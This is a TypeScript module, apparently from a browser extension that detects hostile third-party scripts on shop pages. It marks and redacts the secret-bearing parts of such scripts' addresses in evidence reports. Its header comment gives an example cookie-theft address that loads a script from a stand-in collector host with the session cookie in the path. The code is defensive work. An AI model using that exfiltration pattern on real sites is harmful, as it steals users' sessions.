/**
 * The parts of a stranger's script address that carry one of the page's secrets, named for the evidence report and
 * the popup to leave out (ui/evidence.ts): a helper that has read the cookie can load its next script from
 * `https://collector.example/k/<cookie>/next.js` — the request is the theft, and the address is also the name Saq
 * gives every later act of that script (`actor.url`) and the `src` of its insertion. Both were shown and saved
 * whole, so the report a person hands to the bank held the session cookie.
 *
 * Named: the actor's address (`actor.secretSegments`, `actor.secretLabels`) and an inserted script's `src`
 * (`srcSecretSegments`, `srcSecretLabels`), both only for a stranger's host — the shop's and its providers' scripts
 * are the shop's business. The same segments and labels as for a send (secret-segments.ts).
 *
 * Each address is judged once while remembered: a script acts many times under one address, and a flood of its
 * findings must not read the cookie and storage for each. Findings of one address may still come named differently —
 * from another frame, or judged again after it was forgotten and the secret it held had rotated out of the page's
 * memory — so the report and the popup join what every finding of the page named (ui/secret-parts.ts).
 *
 * Pure but for its memory: the ISOLATED entry passes the stranger test and the page's secrets.
 * tests/unit/content/script-addresses.test.ts.
 */
import type { Finding } from '../../shared/findings.ts';
import { NON_ASCII, secretPartFields, secretParts, type SecretParts } from './secret-segments.ts';
import { addressCarriesSecret, networkOrigin } from './secrets-in-url.ts';

/** Addresses remembered; past this the memory starts again (a page making endless addresses pays a read each). */
export const MAX_REMEMBERED = 128;

export function createScriptAddressMarker(
  isStranger: (origin: string) => boolean,
  secrets: () => readonly string[],
  typed: () => readonly string[],
): (finding: Finding) => Finding {
  const judged = new Map<string, SecretParts | null>();

  /** The parts of a stranger's address that carry a secret, or null (no stranger, or no secret in it). */
  const partsOf = (url: unknown): SecretParts | null => {
    if (typeof url !== 'string' || url === '') return null;
    const known = judged.get(url);
    if (known !== undefined) return known;
    const origin = networkOrigin(url);
    let parts: SecretParts | null = null;
    if (origin !== null && isStranger(origin)) {
      const stored = secrets();
      const typedNow = typed();
      // Most addresses carry nothing: one look at the whole address first, each segment and label only after it.
      // What the person typed is looked for in pieces, and a stored value that is not ASCII in punycode: those always.
      const mayCarry = typedNow.length > 0 || addressCarriesSecret(url, stored) || stored.some((value) => NON_ASCII.test(value));
      const named = mayCarry ? secretParts(url, stored, typedNow) : null;
      if (named !== null && (named.segments !== null || named.labels !== null)) parts = named;
    }
    if (judged.size >= MAX_REMEMBERED) judged.clear();
    judged.set(url, parts);
    return parts;
  };

  return (finding) => {
    const acted = partsOf(finding.actor.url);
    const inserted = finding.kind === 'script-inserted' ? partsOf(finding.evidence.src) : null;
    if (acted === null && inserted === null) return finding;
    return {
      ...finding,
      actor: acted === null ? finding.actor : { ...finding.actor, ...secretPartFields(acted, 'secretSegments', 'secretLabels') },
      evidence:
        inserted === null
          ? finding.evidence
          : { ...finding.evidence, ...secretPartFields(inserted, 'srcSecretSegments', 'srcSecretLabels') },
    };
  };
}
